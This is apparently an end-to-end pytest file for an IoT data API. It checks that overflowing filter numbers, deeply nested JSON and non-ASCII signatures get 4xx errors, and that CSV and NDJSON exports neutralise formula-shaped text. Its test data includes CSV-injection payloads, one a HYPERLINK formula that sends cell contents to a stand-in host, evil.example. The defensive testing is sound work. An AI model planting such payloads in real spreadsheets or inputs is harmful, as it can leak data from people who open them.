"""Bad input through the real gateway (decision 77; docs/design/reliability.md ``edge-fuzz`` and
``hostile-export``): what an attacker tried answers 4xx in the error model, never 500, and an
export of hostile text opens safely.

- ``$filter=streamSeq gt 1e308`` and ``eq 99999999999999999999999`` on the quarantine (a
  Postgres bigint overflow, 500 before) and ``eq 1e999`` (infinity crossed the wire as null
  and the filter became ``IS NULL``, 200 before): 400 ``validation_error``;
- a JSON array nested 100,000 deep on ``/api/v0/devices`` and ``/api/v1/devices``: 400;
- a non-ASCII ``signature`` on a real export's download link: 403, not 500;
- readings and an annotation of formula-shaped text, exported as CSV and NDJSON: every CSV
  record parses into its columns with no cell a spreadsheet evaluates, every NDJSON line
  parses, and the values read back; a sensor key with a final newline is refused at ingest.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import parse_qs, urlencode, urlparse

import httpx
import pytest

from tests.e2e._poll import eventually

pytestmark = pytest.mark.e2e

START = datetime.now(UTC).replace(minute=0, second=0, microsecond=0) - timedelta(hours=2)
EVALUATED = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    'line one\r\nline two, "quoted"',
    "'kept",
]


def bearer(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


def iso(t: datetime) -> str:
    return t.isoformat().replace("+00:00", "Z")


def error(response: httpx.Response, status: int, kind: str) -> dict[str, Any]:
    assert response.status_code == status, response.text
    body = dict(response.json())
    assert body["object"] == "error" and body["type"] == kind, body
    assert body["code"] == status and len(body["request_id"]) == 32, body
    return body


def test_numbers_a_field_cannot_hold_are_validation_errors(
    http: httpx.Client, tenants: Any, raise_limits: Any
) -> None:
    org = tenants.org("edge-numbers")
    raise_limits(org["id"])
    auth = bearer(tenants.key(org["id"])["key"])
    for params in (
        {"$filter": "streamSeq gt 1e308"},
        {"$filter": "streamSeq eq 99999999999999999999999"},
        {"$filter": "streamSeq eq 1e999"},
        {"$filter": "readingIndex lt -2147483649"},
        {"$filter": "streamSeq eq 1.5"},
        {"streamSeq__gt": "1e308"},
        {"streamSeq__in": "1,99999999999999999999999"},
        {"$top": "9" * 5000},
    ):
        error(
            http.get("/api/v1/admin/quarantine", params=params, headers=auth),
            400,
            "validation_error",
        )
    ok = http.get("/api/v1/admin/quarantine", params={"$filter": "streamSeq gt 0"}, headers=auth)
    assert ok.status_code == 200 and ok.json()["data"] == [], ok.text


@pytest.mark.parametrize("version", ["v0", "v1"])
def test_a_body_nested_100_000_deep_is_400(
    http: httpx.Client, tenants: Any, raise_limits: Any, version: str
) -> None:
    org = tenants.org(f"edge-deep-{version}")
    raise_limits(org["id"])
    headers = {**bearer(tenants.key(org["id"])["key"]), "Content-Type": "application/json"}
    for body in (
        b"[" * 100_000 + b"]" * 100_000,
        b'{"name":"d","attributes":{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}}",
    ):
        resp = http.post(f"/api/{version}/devices", content=body, headers=headers)
        error(resp, 400, "bad_request")
    listed = http.get(f"/api/{version}/devices", headers=headers)
    assert listed.status_code == 200 and listed.json()["data"] == [], listed.text


def download(http: httpx.Client, url: str) -> zipfile.ZipFile:
    parsed = urlparse(url)
    resp = http.get(f"{parsed.path}?{parsed.query}")
    assert resp.status_code == 200, resp.text
    return zipfile.ZipFile(io.BytesIO(resp.content))


def test_hostile_text_exports_safely_and_odd_signatures_are_refused(
    http: httpx.Client, tenants: Any, raise_limits: Any
) -> None:
    org = tenants.org("edge-export")
    raise_limits(org["id"])
    auth = bearer(tenants.key(org["id"])["key"])
    device = http.post("/api/v1/devices", json={"name": "hostile"}, headers=auth)
    assert device.status_code == 201, device.text
    device_id = device.json()["id"]
    readings = [
        {
            "deviceId": device_id,
            "sensor": "note",
            "ts": iso(START + timedelta(seconds=i)),
            "value": v,
        }
        for i, v in enumerate(HOSTILE)
    ] + [{"deviceId": device_id, "sensor": "temp", "ts": iso(START), "value": -3.5}]

    def send() -> bool:
        resp = http.post("/api/v1/readings/batch", json={"readings": readings}, headers=auth)
        assert resp.status_code == 202, resp.text
        return bool(resp.json()["accepted"] == len(readings))

    assert eventually(send), "the readings service never learnt of the device"
    # A key with a final newline passed the pattern ($ matches before it): refused now.
    newline_key = {"deviceId": device_id, "sensor": "temp\n", "ts": iso(START), "value": 1.0}
    resp = http.post("/api/v1/readings/batch", json={"readings": [newline_key]}, headers=auth)
    assert resp.status_code in (202, 400), resp.text
    if resp.status_code == 202:
        assert resp.json()["accepted"] == 0 and resp.json()["rejected"], resp.text
    klass = http.post("/api/v1/annotation-classes", json={"name": "=cls"}, headers=auth).json()
    note = http.post(
        "/api/v1/annotations",
        json={
            "deviceId": device_id,
            "classId": klass["id"],
            "from": iso(START),
            "to": iso(START + timedelta(minutes=1)),
            "text": HOSTILE[0],
        },
        headers=auth,
    )
    assert note.status_code == 201, note.text
    window = {"from": iso(START), "to": iso(START + timedelta(hours=1))}

    def stored() -> bool:
        resp = http.get(
            "/api/v1/readings",
            params={"deviceId": device_id, "sensor": "note", **window},
            headers=auth,
        )
        return len(resp.json().get("data", [])) == len(HOSTILE)

    assert eventually(stored)

    def export(fmt: str) -> dict[str, Any]:
        created = http.post(
            "/api/v1/exports",
            json={
                "scopeType": "DEVICE",
                "scopeId": device_id,
                **window,
                "includes": ["READINGS", "ANNOTATIONS"],
                "format": fmt,
            },
            headers=auth,
        )
        assert created.status_code == 201, created.text

        def ready() -> Any:
            view = http.get(f"/api/v1/exports/{created.json()['id']}", headers=auth).json()
            assert view["status"] in ("PENDING", "RUNNING", "READY"), view
            return view if view["status"] == "READY" else None

        view = eventually(ready, timeout=60)
        assert view, "the export never became READY"
        return dict(view)

    csv_view = export("CSV")
    archive = download(http, csv_view["downloadUrl"])
    rows = list(csv.reader(io.StringIO(archive.read("readings.csv").decode(), newline="")))
    assert rows[0] == ["deviceId", "sensor", "ts", "value"]
    assert all(len(r) == 4 for r in rows), rows
    text_cells = [r[3] for r in rows[1:] if r[1] == "note"]
    assert sorted(c[1:] if c.startswith("'") else c for c in text_cells) == sorted(HOSTILE)
    assert not any(c.startswith(EVALUATED) for c in text_cells), text_cells
    assert [r[3] for r in rows[1:] if r[1] == "temp"] == ["-3.5"]  # a number stays a number
    notes = list(csv.reader(io.StringIO(archive.read("annotations.csv").decode(), newline="")))
    assert all(len(r) == 8 for r in notes) and notes[1][6] == "'" + HOSTILE[0], notes

    ndjson_view = export("NDJSON")
    archive = download(http, ndjson_view["downloadUrl"])
    text = archive.read("readings.ndjson").decode()
    lines = [json.loads(line) for line in text.split("\n")[:-1]]
    assert sorted(r["value"] for r in lines if r["sensor"] == "note") == sorted(HOSTILE)
    notes_lines = archive.read("annotations.ndjson").decode().split("\n")[:-1]
    assert [json.loads(line)["text"] for line in notes_lines] == [HOSTILE[0]]

    # A signature that is not ASCII (hmac.compare_digest raised: 500) is a refused link.
    url = urlparse(csv_view["downloadUrl"])
    params = {k: v[0] for k, v in parse_qs(url.query).items()}
    for signature in ("é" * len(params["signature"]), params["signature"][:-1] + "é", "ü"):
        query = urlencode({**params, "signature": signature})
        error(http.get(f"{url.path}?{query}"), 403, "access_denied")
